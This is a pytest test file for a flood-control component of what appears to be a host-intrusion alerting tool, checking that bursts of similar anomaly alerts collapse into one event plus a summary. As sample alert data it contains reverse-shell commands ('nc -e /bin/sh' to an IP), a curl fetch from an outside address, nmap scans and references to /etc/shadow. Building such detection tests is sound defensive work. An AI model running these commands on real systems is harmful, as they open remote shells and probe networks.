"""Flood control: look-alike anomalies inside a window become the first event plus one summary."""
from __future__ import annotations

from mimizuku.delivery import flood
from mimizuku.delivery.flood import FloodControl, command_program, path_shape, signature


class Clock:
    def __init__(self):
        self.t = 1000.0

    def __call__(self):
        return self.t


def rec(i, *, path=None, command=None, agent=("003", "web-01"), detector=None, anomaly=True, rule="550",
        score=0.9, srcip=None):
    fields = {}
    if path:
        fields["path"] = path
        fields["event"] = "added"
    if command:
        fields["command"] = command
        fields["user"] = "www-data"
    if srcip:
        fields["srcip"] = srcip
    det = detector or ("files" if path else "commands" if command else "context")
    return {"id": f"1.{i}", "timestamp": f"2026-11-21T10:00:{i % 60:02d}.000+0000",
            "agent": {"id": agent[0], "name": agent[1], "ip": "10.0.0.5"},
            "rule": {"id": rule, "level": 7, "description": "d", "groups": []}, "detector": det,
            "score": score, "score_pct": round(100 * score), "threshold": 0.8, "anomaly": anomaly,
            "severity": "high" if anomaly else "none", "reasons": ["rare"] if anomaly else [],
            "fields": fields, "model_version": "v"}


def test_shapes_fold_variable_parts_but_keep_where():
    assert path_shape("/tmp/.x/a1b2c3d4e5.tmp") == path_shape("/tmp/.x/99ffee00aa.tmp")
    assert path_shape("/var/www/upload/file123.php") == path_shape("/var/www/upload/file9.php")
    assert path_shape("/etc/shadow") != path_shape("/etc/passwd")
    assert path_shape("/srv/a/x.php") != path_shape("/srv/b/x.php")
    assert command_program("/usr/bin/curl -s http://203.0.113.9/x") == "/usr/bin/curl"
    assert signature(rec(1, command="nc -e /bin/sh 1.2.3.4 1")) == signature(rec(2, command="nc -e /bin/bash 5.6.7.8 2"))
    assert signature(rec(1, path="/tmp/a1")) != signature(rec(1, path="/tmp/a1", agent=("004", "db-01")))


def test_scan_of_10000_becomes_first_event_plus_one_summary():
    clock = Clock()
    fc = FloodControl(60, clock=clock)
    sent = []
    for i in range(10_000):
        sent += fc.admit(rec(i, path=f"/var/www/html/probe{i}.php"))
        clock.t += 0.001
    assert len(sent) == 1 and sent[0]["id"] == "1.0" and "flood" not in sent[0]
    assert fc.suppressed == 9_999
    clock.t += 60
    summary = fc.flush()
    assert len(summary) == 1
    s = summary[0]
    assert s["flood"]["count"] == 10_000 and s["flood"]["suppressed"] == 9_999
    assert s["flood"]["first"] == "2026-11-21T10:00:00.000+0000"
    assert s["flood"]["last"] == "2026-11-21T10:00:39.000+0000"  # i = 9999 -> second 39
    assert s["id"] == "1.9999" and "10000 similar files anomalies" in s["reasons"][0]
    assert len(fc) == 0 and fc.flush() == []


def test_repeats_of_an_open_burst_count_into_its_summary():
    """The repeats rule holds back most of a burst (``repeat_of``); the summary still tells how many
    alerts it had and when the last one came, but a repeat is never sent by flood control, and a
    repeat whose signature has no open window is not counted anywhere."""
    clock = Clock()
    fc = FloodControl(60, clock=clock)

    def repeat(i, **kw):
        r = rec(i, anomaly=False, **kw)
        r["repeat_of"] = "1.0"
        return r

    assert fc.count_repeat(repeat(1, srcip="203.0.113.9")) is False       # no window open yet
    sent = fc.admit(rec(0, srcip="203.0.113.9", rule="31101"))
    assert [r["id"] for r in sent] == ["1.0"]
    counted = [fc.count_repeat(repeat(i, srcip="203.0.113.9", rule="31101")) for i in range(1, 30)]
    assert all(counted)
    assert fc.count_repeat(repeat(30, srcip="198.51.100.7", rule="31101")) is False  # other source
    assert fc.count_repeat(rec(31, srcip="203.0.113.9", rule="31101", anomaly=False)) is False  # no repeat_of
    assert fc.admit(rec(32, srcip="203.0.113.9", rule="31101")) == []      # an anomaly in the window
    assert fc.suppressed == 1                                              # repeats are not "suppressed"
    clock.t += 60
    (s,) = fc.flush()
    assert s["flood"]["count"] == 31 and s["id"] == "1.32"
    assert s["flood"]["suppressed"] == 1 and s["flood"]["repeats"] == 29   # held back by each rule
    assert s["flood"]["last"] == "2026-11-21T10:00:32.000+0000" and "31 similar context" in s["reasons"][0]
    off = FloodControl(0, clock=clock)
    assert off.count_repeat(repeat(1)) is False and len(off) == 0


def test_distinct_signatures_are_not_merged_and_non_anomalies_pass():
    clock = Clock()
    fc = FloodControl(60, clock=clock)
    out = fc.admit(rec(1, path="/etc/shadow")) + fc.admit(rec(2, path="/etc/passwd")) + \
        fc.admit(rec(3, command="curl x")) + fc.admit(rec(4, command="wget y")) + \
        fc.admit(rec(5, path="/etc/shadow", agent=("009", "db-09")))
    assert [r["id"] for r in out] == ["1.1", "1.2", "1.3", "1.4", "1.5"]
    normal = [fc.admit(rec(i, path="/etc/shadow", anomaly=False)) for i in range(10)]
    assert all(len(x) == 1 for x in normal)
    clock.t += 61
    assert fc.flush() == []  # every window saw one anomaly: nothing to summarise


def test_window_end_then_fresh_start_and_summary_emitted_by_next_admit():
    clock = Clock()
    fc = FloodControl(10, clock=clock)
    assert len(fc.admit(rec(1, command="nmap -sS 10.0.0.0/24"))) == 1
    assert fc.admit(rec(2, command="nmap -sU 10.0.0.0/24")) == []
    clock.t += 11
    out = fc.admit(rec(3, command="nmap -A 10.0.0.1"))
    assert [r.get("flood", {}).get("count") for r in out] == [2, None]   # summary, then the new first
    assert out[1]["id"] == "1.3"


def test_flush_all_and_disabled():
    clock = Clock()
    fc = FloodControl(60, clock=clock)
    for i in range(5):
        fc.admit(rec(i, srcip="203.0.113.9", rule="5710"))
    pending = fc.flush_all()
    assert len(pending) == 1 and pending[0]["flood"]["count"] == 5
    off = FloodControl(0)
    assert not off.enabled
    assert sum(len(off.admit(rec(i, path="/tmp/x"))) for i in range(20)) == 20


def test_bounded_signatures():
    clock = Clock()
    fc = FloodControl(60, clock=clock, max_signatures=3)
    for i in range(3):
        fc.admit(rec(i, path="/d" + "abc"[i] + "/f"))
        fc.admit(rec(100 + i, path="/d" + "abc"[i] + "/f"))
    out = fc.admit(rec(9, path="/other/f"))
    assert len(fc) == 3 and out[0]["flood"]["count"] == 2 and out[-1]["id"] == "1.9"
    assert flood.flood_fields(out[0])["count"] == 2 and flood.flood_fields(out[-1]) is None
